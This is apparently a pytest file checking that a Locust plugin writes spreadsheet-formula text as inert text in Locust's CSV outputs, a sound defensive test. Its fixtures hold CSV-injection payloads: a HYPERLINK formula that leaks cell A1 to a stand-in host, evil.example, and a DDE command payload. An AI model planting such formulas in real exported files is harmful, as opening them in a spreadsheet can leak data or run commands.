"""Locust's own CSV files (PREFIX_stats.csv, _stats_history.csv, _failures.csv, _exceptions.csv) name
requests by prompt class and carry the server's error texts: with the plugin loaded, a text a spreadsheet
would run as a formula is written as text there too, as in the plugin's files (docs/contracts.md).
Before: `=HYPERLINK(...)` and `@SUM(1)` went raw into PREFIX_stats.csv and PREFIX_stats_history.csv."""

from __future__ import annotations

import csv

import gevent
from locust.env import Environment
from locust.stats import PERCENTILES_TO_REPORT, StatsCSVFileWriter

import locust_spec.plugin  # noqa: F401  (patches Locust's CSV writer, as loading the plugin does)

CLASSES = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "@SUM(1)", "+1+cmd", "-2+3", "chat"]
ERROR = "=cmd|' /C calc'!A0"


def written(tmp_path) -> dict[str, list[list[str]]]:
    """Each of Locust's CSV files after one rewrite, its rows (header first)."""
    env = Environment()
    runner = env.create_local_runner()
    for name in CLASSES:
        env.stats.log_request("E2E", name, 120, 10)
        env.stats.log_error("E2E", name, ERROR)
    runner.exceptions[1] = {"count": 1, "msg": ERROR, "traceback": "@ line 1", "nodes": {"local"}}
    writer = StatsCSVFileWriter(env, PERCENTILES_TO_REPORT, str(tmp_path / "run"), full_history=True)
    gevent.spawn(writer.stats_writer)
    gevent.sleep(0.2)  # one rewrite of every file
    writer.close_files()
    runner.quit()
    return {name: list(csv.reader((tmp_path / f"run_{name}.csv").open()))
            for name in ("stats", "stats_history", "failures", "exceptions")}


def test_text_a_spreadsheet_would_run_is_written_as_text_in_locusts_csv_files(tmp_path):
    files = written(tmp_path)
    for name, rows in files.items():
        assert len(rows) > 1, name
        cells = [cell for row in rows[1:] for cell in row]
        assert not [c for c in cells if c.startswith(("=", "+", "-", "@"))], name
    names = {row[1] for row in files["stats"][1:]}
    assert names == {"'" + c if c != "chat" else c for c in CLASSES} | {"Aggregated"}
    assert {row[3] for row in files["stats_history"][1:]} == names
    assert {row[2] for row in files["failures"][1:]} == {"'" + ERROR}
    assert files["exceptions"][1][1:3] == ["'" + ERROR, "'@ line 1"]


def test_numbers_are_never_prefixed(tmp_path):
    row = next(r for r in written(tmp_path)["stats"][1:] if r[1] == "chat")
    assert row[2:5] == ["1", "1", "120"]  # requests, failures, median ms
